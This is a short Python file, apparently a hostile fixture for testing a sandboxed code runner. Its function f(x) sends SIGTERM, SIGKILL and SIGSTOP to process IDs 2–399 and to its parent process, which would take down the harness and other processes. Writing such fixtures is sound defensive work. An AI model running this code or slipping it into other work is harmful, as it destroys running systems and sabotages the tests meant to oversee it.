# promise: 5
# shared: refused
# Signals to all processes that may be the tests' guest.
import os
import signal


def f(x):
    for number in list(range(2, 400)) + [os.getppid() or 2]:
        if number != os.getpid():
            for kind in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
                try:
                    os.kill(number, kind)
                except OSError:
                    pass
    return 0
